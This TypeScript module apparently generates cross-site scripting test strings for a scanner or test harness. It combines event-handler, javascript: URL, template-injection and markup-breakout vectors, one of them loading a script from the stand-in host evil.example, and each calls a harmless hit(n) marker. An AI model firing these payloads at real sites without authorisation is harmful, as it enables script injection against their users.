/** A text that would run `hit(<number>)`, if a page let it. */
export interface Payload {
  readonly number: number;
  readonly text: string;
}

/** What runs by itself. */
const RUNNING: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<style>@import "javascript:${call}"</style>`,
  (call) => `<math><mtext></mtext><mglyph><style><img src=x onerror=${call}></style></mglyph></math>`,
  (call) => `<base href="//evil.example/"><script src="a.js" onerror=${call}></script>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `" autofocus onfocus="${call}" x="`,
  (call) => `" style="background:url(javascript:${call})" onmouseover="${call}" x="`,
  (call) => `\u2028${call}\u2029<script>${call}</script>`,
  (call) => `{{constructor.constructor('${call}')()}}<img src=x onerror=${call}>`,
  (call) => `\${${call}}<script>${call}</script>`,
];

/** What the text may have to break out of first. */
const BREAKING: readonly string[] = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea></style>',
  '-->',
  ']]>',
  '\\u003c/script>',
  '"}]</script><!--',
  '</noscript>',
  '`;',
  '\\";',
  '&quot;&gt;',
  '</a></p></div>',
];

/** So many different texts, at most 300: every way to run in every place to break out of. */
export function payloadsOf(count: number): readonly Payload[] {
  return BREAKING.flatMap((breaking) => RUNNING.map((running) => ({ breaking, running })))
    .map(({ breaking, running }, number) => ({ number, text: breaking + running(`hit(${number})`) }))
    .filter(
      ({ number }, index, all) =>
        index === 0 ||
        Math.floor((number * count) / all.length) !== Math.floor(((number - 1) * count) / all.length),
    );
}
